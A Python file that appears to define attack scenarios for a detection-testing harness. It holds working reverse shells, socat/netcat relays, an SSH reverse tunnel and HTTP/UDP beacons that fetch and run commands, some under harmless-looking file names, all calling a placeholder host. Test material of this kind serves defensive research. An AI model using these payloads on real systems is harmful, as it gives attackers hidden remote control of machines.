# SPDX-License-Identifier: Apache-2.0
"""Shapes F to H: no shell of its own, no connection of its own, no connection that lasts.

F: an implant that runs programs itself. G: a relay: what runs the commands talks to a unix socket,
a file or loopback, and another process to the outside. H: a beacon: short polls, and a command
after each."""

from attacks import PROGRAM
from scenarios import AT_A_TERMINAL, Attack, POLLS

PYTHON_PROGRAMS = """\
import shlex, socket, subprocess
s = socket.create_connection(("@H@", @P@))
for line in s.makefile("r"):
    words = shlex.split(line)
    if words == ["exit"]:
        break
    s.sendall(subprocess.run(words, stdout=subprocess.PIPE).stdout)
"""
PERL_PROGRAMS = """\
use IO::Socket::INET;
my $s = IO::Socket::INET->new('@H@:@P@') or die;
while (my $l = <$s>) {
    my @w = split ' ', $l; last if $w[0] eq 'exit';
    open my $p, '-|', @w or next; print $s $_ while <$p>; close $p;
}
"""
NODE_PROGRAMS = """\
const { execFileSync } = require('child_process');
const s = require('net').connect({ host: '@H6@', port: @P@ });
s.on('data', d => {
  const w = d.toString().trim().split(/\\s+/);
  if (w[0] === 'exit') process.exit();
  s.write(execFileSync(w[0], w.slice(1)));
});
"""
RUBY_BIND_PROGRAMS = """\
require 'socket'; require 'open3'
c = TCPServer.new('@V@', @P@).accept
while l = c.gets do break if l =~ /^exit/; o, _ = Open3.capture2e(*l.split); c.write(o) end
"""
TCL_PROGRAMS = """\
set s [socket @H@ @P@]
fconfigure $s -buffering none
while {[gets $s c] >= 0 && $c ne "exit"} { catch {exec {*}$c} r; puts $s $r }
"""
PYTHON_SOCKETPAIR = """\
import os, socket
outer, inner = socket.socketpair()
if os.fork() == 0:
    outer.close()
    for fd in (0, 1, 2):
        os.dup2(inner.fileno(), fd)
    os.execv("/bin/bash", ["bash"])
inner.close()
s = socket.create_connection(("@H@", @P@))
if os.fork() == 0:
    while True:
        b = outer.recv(4096)
        if not b:
            os._exit(0)
        s.sendall(b)
while True:
    b = s.recv(4096)
    if not b:
        break
    outer.sendall(b)
"""
# The agent that runs commands and the one that talks are programs of two separate sessions.
PYTHON_UNIX_RUNNER = """\
import os, socket, subprocess
l = socket.socket(socket.AF_UNIX)
l.bind("@D@/s")
l.listen(1)
c, a = l.accept()
for line in c.makefile("r"):
    c.sendall(subprocess.run(line, shell=True, stdout=subprocess.PIPE).stdout)
"""
PYTHON_UNIX_CARRIER = """\
import select, socket, time
u = socket.socket(socket.AF_UNIX)
for i in range(100):
    try:
        u.connect("@D@/s")
        break
    except OSError:
        time.sleep(0.1)
s = socket.create_connection(("@H@", @P@))
while True:
    for r in select.select([u, s], [], [])[0]:
        b = r.recv(4096)
        if not b:
            raise SystemExit
        (s if r is u else u).sendall(b)
"""
STUNNEL = """\
client = yes
foreground = yes
pid =
debug = err
[up]
accept = 127.0.0.1:@R@
connect = @H@:@P@
"""
PYTHON_BEACON = """\
import subprocess, time, urllib.request
while True:
    c = urllib.request.urlopen("http://@H@:@P@/task").read().decode()
    if c:
        r = subprocess.run(c, shell=True, stdout=subprocess.PIPE).stdout
        urllib.request.urlopen("http://@H@:@P@/result", r)
    time.sleep(0.5)
"""
PERL_BEACON = """\
use HTTP::Tiny;
while (1) {
    my $c = HTTP::Tiny->new->get('http://@H@:@P@/task')->{content};
    HTTP::Tiny->new->post('http://@H@:@P@/r', { content => scalar `$c` }) if $c;
    select undef, undef, undef, 0.5;
}
"""
NODE_BEACON = """\
const { execFile } = require('child_process'), http = require('http');
function poll() {
  http.get({ host: '@H@', port: @P@, path: '/task' }, r => {
    let t = ''; r.on('data', d => t += d); r.on('end', () => {
      const w = t.trim().split(/\\s+/);
      if (!w[0]) return;
      execFile(w[0], w.slice(1), (e, o) => {
        http.request({ host: '@H@', port: @P@, path: '/r', method: 'POST' }).end(o);
      });
    });
  });
}
setInterval(poll, 400);
"""
PYTHON_DATAGRAM_BEACON = """\
import os, socket, time
while True:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("@H@", @P@))
    s.send(b"?")
    s.settimeout(1)
    try:
        s.send(os.popen(s.recv(4096).decode()).read().encode())
    except OSError:
        pass
    time.sleep(0.3)
"""
BASH_BEACON = """\
while :; do
  if exec 3<>/dev/tcp/@H@/@P@; then read -r c <&3; eval "$c" >&3 2>&3; exec 3>&-; fi 2>/dev/null
  sleep 0.4
done
"""

ATTACKS = [
    # ---- F
    Attack("implant_c_service", "F", "implant", "service", "tcp", "@D@/f @H@ @P@ f",
           needs=("implant",), files={"f": "copy:@C@/implant"}, speaks=PROGRAM, live=True),
    Attack("implant_go_cron", "F", "implant", "cron", "tcp", "@D@/node_exporter @H@:@P@ run",
           needs=("remote",), files={"node_exporter": "copy:@C@/remote"}, speaks=PROGRAM,
           live=True),
    Attack("implant_python_ssh", "F", "implant", "ssh", "tcp", "python3 @D@/sync.py &",
           needs=("python3",), files={"sync.py": PYTHON_PROGRAMS}, speaks=PROGRAM, live=True),
    Attack("implant_perl_web", "F", "implant", "web", "tcp", "perl @D@/count.pl",
           files={"count.pl": PERL_PROGRAMS}, speaks=PROGRAM),
    Attack("implant_node6_service", "F", "implant", "service", "tcp6", "node @D@/main.js",
           needs=("node",), files={"main.js": NODE_PROGRAMS}, speaks=PROGRAM),
    Attack("implant_java_cron", "F", "implant", "cron", "tcp", "java -cp @C@ Remote @H@ @P@ run",
           needs=("java", "Remote.class"), speaks=PROGRAM),
    Attack("implant_tcl_web", "F", "implant", "web", "tcp", "tclsh @D@/a.tcl", needs=("tclsh",),
           files={"a.tcl": TCL_PROGRAMS}, speaks=PROGRAM),
    Attack("implant_bind_ruby_cron", "F", "implant", "cron", "bind", "ruby @D@/x.rb",
           needs=("ruby",), files={"x.rb": RUBY_BIND_PROGRAMS}, speaks=PROGRAM),
    Attack("implant_bind_c_ssh", "F", "implant", "ssh", "bind", "@D@/i @H@ @P@ p &",
           needs=("implant",), files={"i": "copy:@C@/implant"}, speaks=PROGRAM),
    # ---- G
    Attack("relay_unix_socat_ssh", "G", "relay", "ssh", "tcp",
           "socat UNIX-LISTEN:@D@/s EXEC:sh &\nsleep 0.3; socat TCP:@H@:@P@ UNIX-CONNECT:@D@/s",
           needs=("socat",), live=True),
    Attack("relay_unix_sessions_cron", "G", "relay", "cron", "tcp",
           "setsid -f socat UNIX-LISTEN:@D@/s EXEC:bash,pty,stderr,setsid; sleep 0.3; "
           "setsid -f socat TCP:@H@:@P@ UNIX-CONNECT:@D@/s",
           needs=("socat",), live=True),
    Attack("relay_loopback_nc_web", "G", "relay", "web", "tcp",
           "nc.traditional -l -s 127.0.0.1 -p @R@ -e /bin/sh & sleep 0.3; "
           "socat TCP:@H@:@P@ TCP:127.0.0.1:@R@", needs=("socat", "nc.traditional"), live=True),
    Attack("relay_loopback_fifo_ssh", "G", "relay", "ssh", "tcp",
           "mkfifo @D@/f; busybox nc -l -p @R@ -e sh &\nsleep 0.3; "
           "nc.openbsd @H@ @P@ <@D@/f | nc.openbsd 127.0.0.1 @R@ >@D@/f",
           needs=("busybox", "nc.openbsd")),
    Attack("relay_bind_socat_cron", "G", "relay", "cron", "bind",
           "socat TCP-LISTEN:@R@,bind=127.0.0.1 EXEC:sh & "
           "socat TCP-LISTEN:@P@,reuseaddr TCP:127.0.0.1:@R@,retry=20,interval=0.1",
           needs=("socat",)),
    Attack("relay_socketpair_ssh", "G", "relay", "ssh", "tcp", "python3 @D@/k.py",
           needs=("python3",), files={"k.py": PYTHON_SOCKETPAIR}, live=True),
    Attack("relay_two_programs_cron", "G", "relay", "cron", "tcp",
           "setsid -f python3 @D@/run.py; sleep 0.3; setsid -f python3 @D@/carry.py",
           needs=("python3",),
           files={"run.py": PYTHON_UNIX_RUNNER, "carry.py": PYTHON_UNIX_CARRIER}),
    Attack("relay_stunnel_cron", "G", "relay", "cron", "tls",
           "stunnel4 @D@/c & sleep 0.5; mkfifo @D@/f; "
           "sh <@D@/f 2>&1 | nc.openbsd 127.0.0.1 @R@ >@D@/f",
           needs=("stunnel4", "nc.openbsd"), files={"c": STUNNEL}),
    Attack("relay_mailbox_web", "G", "relay", "web", "http",
           "touch @D@/in @D@/out; tail -f @D@/in | sh >@D@/out 2>&1 & n=0; "
           "while sleep 0.3; do curl -s http://@H@:@P@/task >>@D@/in; "
           "curl -s --data-binary @@D@/out http://@H@:@P@/r; done", needs=("curl",), live=True),
    Attack("relay_tmux_ssh", "G", "relay", "ssh", "tcp",
           "tmux -L @P@ -f /dev/null new -d -s t sh; tmux -L @P@ pipe-pane -t t 'cat >@D@/o'; "
           "touch @D@/o; tail -f @D@/o | nc.openbsd @H@ @P@ | "
           "while IFS= read -r l; do tmux -L @P@ send-keys -t t \"$l\" Enter; done",
           needs=("tmux", "nc.openbsd"),
           unseen=AT_A_TERMINAL),
    Attack("tunnel_ssh_cron", "G", "relay", "cron", "tunnel",
           "socat TCP-LISTEN:@R@,bind=127.0.0.1,reuseaddr EXEC:bash & "
           "ssh -F none -i @D@/key -p @Q@ -o StrictHostKeyChecking=no "
           "-o UserKnownHostsFile=/dev/null "
           "-N -R 127.0.0.1:@P@:127.0.0.1:@R@ root@@H@", needs=("ssh", "socat", "sshd"), live=True),
    # ---- H
    Attack("beacon_curl_sh_cron", "H", "beacon", "cron", "http",
           "while :; do curl -s http://@H@:@P@/task | sh 2>&1 | "
           "curl -s --data-binary @- http://@H@:@P@/r; sleep 0.5; done", needs=("curl",),
           live=True),
    Attack("beacon_curl_eval_ssh", "H", "beacon", "ssh", "http",
           "while sleep 0.5; do c=$(curl -s http://@H@:@P@/task); [ -n \"$c\" ] && "
           "curl -s -d \"$(eval \"$c\")\" http://@H@:@P@/r; done &", needs=("curl",),
           unseen=POLLS),
    Attack("beacon_wget_web", "H", "beacon", "web", "http",
           "while sleep 0.5; do wget -qO @D@/t http://@H@:@P@/task; [ -s @D@/t ] || continue; "
           "sh @D@/t >@D@/r; wget -qO /dev/null --post-file=@D@/r http://@H@:@P@/r; done",
           needs=("wget",), live=True),
    Attack("beacon_python_service", "H", "beacon", "service", "http", "python3 @D@/telemetry.py",
           needs=("python3",), files={"telemetry.py": PYTHON_BEACON}, live=True),
    Attack("beacon_perl_cron", "H", "beacon", "cron", "http", "perl @D@/h.pl",
           files={"h.pl": PERL_BEACON}),
    Attack("beacon_node_ssh", "H", "beacon", "ssh", "http", "node @D@/metrics.js &",
           needs=("node",), files={"metrics.js": NODE_BEACON}, speaks=PROGRAM),
    Attack("beacon_bash_web", "H", "beacon", "web", "one_by_one", "bash @D@/b",
           files={"b": BASH_BEACON}, live=True),
    Attack("beacon_c_cron", "H", "beacon", "cron", "one_by_one", "@D@/z @H@ @P@ g 1",
           needs=("implant",), files={"z": "copy:@C@/implant"}, speaks=PROGRAM,
           unseen=POLLS),
    Attack("beacon_nc_files_ssh", "H", "beacon", "ssh", "half",
           "while sleep 0.4; do nc.openbsd -w 60 @H@ @P@ </dev/null >@D@/c && [ -s @D@/c ] && "
           "sh @D@/c | nc.openbsd -N @H@ @Q@; done 2>/dev/null", needs=("nc.openbsd",),
           unseen=POLLS),
    Attack("beacon_datagrams_cron", "H", "beacon", "cron", "udp_poll", "python3 @D@/ntp.py",
           needs=("python3",), files={"ntp.py": PYTHON_DATAGRAM_BEACON}),
    Attack("beacon_busybox_service", "H", "beacon", "service", "http",
           "busybox sh @D@/i", needs=("busybox",), files={"i":
               "while sleep 0.5; do c=$(busybox wget -qO- http://@H@:@P@/task); "
               "[ -n \"$c\" ] && busybox wget -qO- --post-data \"$($c)\" http://@H@:@P@/r; done\n"},
           speaks=PROGRAM,
           unseen=POLLS),
]
